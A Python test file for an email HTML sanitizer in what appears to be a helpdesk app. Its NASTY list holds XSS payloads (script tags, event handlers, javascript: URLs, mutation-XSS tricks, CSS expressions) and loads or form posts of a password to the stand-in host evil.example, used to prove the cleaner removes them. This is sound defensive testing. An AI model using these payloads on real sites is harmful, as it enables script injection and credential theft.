"""A customer's HTML shown: nothing runs, nothing loads from outside, nothing covers the desk."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from regulars.channels.email.html import blocked_pictures, clean


def shown(html: str, *, remote: bool = False) -> str:
    return clean(html, {"pic@x": "/files/f1"}, remote_pictures=remote)


NASTY = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvaScRipt:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import url(https://evil.example/a.css); * {position:fixed}</style>",
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    '<div style="background-image: u\\72l(https://evil.example/x.png)">x</div>',
    '<div style="color: expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;z-index:9999;width:100%">x</div>',
    '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">x</td></tr></table>',
    '<img srcset="https://evil.example/x.png 2x">',
    '<img src="https://evil.example/x.png">',
    '<img src="//evil.example/x.png">',
    '<img src="\\\\evil.example\\x.png">',
    '<img src="/settings/sign-out">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<video poster="https://evil.example/x.png" src="https://evil.example/v"></video>',
    '<input type=image src="https://evil.example/x.png">',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<p id="main" class="button" name="x">x</p>',
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
]
TAGS = frozenset("a b br div h1 i img li ol p span table tbody td th thead tr u ul".split())
ATTRIBUTES = frozenset(
    "href rel target src alt loading referrerpolicy style title colspan rowspan width height bgcolor border".split()
)


class Seen(HTMLParser):
    """What a browser would make of it: every start tag must be one of a few, with nothing that acts or loads."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            if name == "href":
                assert re.match("https?://|mailto:|tel:", value or "")
            elif name == "src":
                assert (value or "").startswith("/files/")
            elif name == "style":
                assert not re.search(r"url|expression|position|z-index|\\\\|background-image", value or "")


def harmless(html: str) -> str:
    made = shown(html)
    Seen().feed(made)
    return made


@pytest.mark.parametrize("html", NASTY)
def test_nasty_html_is_harmless(html: str) -> None:
    assert "before" in harmless(f"before {html} after")


@given(
    st.lists(
        st.sampled_from([*NASTY, "<p>", "</p>", "<b", '"', "'", ">", "<!--", "-->", "<td>", "</table>"]), max_size=8
    )
)
def test_nasty_pieces_together_are_harmless(pieces: list[str]) -> None:
    harmless("".join(pieces))


def test_the_look_stays() -> None:
    html = (
        '<h1>Hi</h1><p style="color: red; font-weight: bold">x</p><ul><li>z</li></ul>'
        '<table border="1"><tr><td bgcolor="#eeeeee" colspan="2">y</td></tr></table>'
    )
    made = shown(html)
    for kept in ("<h1>Hi</h1>", "color:red", 'colspan="2"', "<li>z</li>", 'bgcolor="#eeeeee"'):
        assert kept in made.replace("color: red", "color:red")


def test_links_open_apart_and_tell_nothing() -> None:
    made = shown('<a href="https://x.example/a?b=1&amp;c=2" target="_top" rel="opener">shop</a>')
    assert 'target="_blank"' in made
    assert 'rel="noopener noreferrer nofollow"' in made
    assert 'href="https://x.example/a?b=1&amp;c=2"' in made


@pytest.mark.parametrize("source", ["cid:pic@x", "cid:pic%40x", "CID:pic@x"])
def test_pictures_of_the_mail_are_shown(source: str) -> None:
    assert 'src="/files/f1"' in shown(f'<img src="{source}" alt="logo">')


def test_an_unknown_picture_of_the_mail_has_no_source() -> None:
    assert "src=" not in shown('<img src="cid:other@x" alt="logo">')


def test_pictures_from_outside_wait_until_asked() -> None:
    html = '<p>x</p><img src="https://shop.example/logo.png" alt="logo"><img src="cid:pic@x">'
    assert "shop.example" not in shown(html)
    assert 'alt="logo"' in shown(html)
    assert 'src="https://shop.example/logo.png"' in shown(html, remote=True)
    assert blocked_pictures(html) == 1


def test_words_of_scripts_and_styles_are_gone() -> None:
    assert (
        shown("<style>p{color:red}</style><title>t</title><script>evil()</script><p>words</p>").strip()
        == "<p>words</p>"
    )


def test_outlook_conditionals_leave_no_traces() -> None:
    assert shown("<![if !supportLists]><p>words</p><![endif]>") == "<p>words</p>"
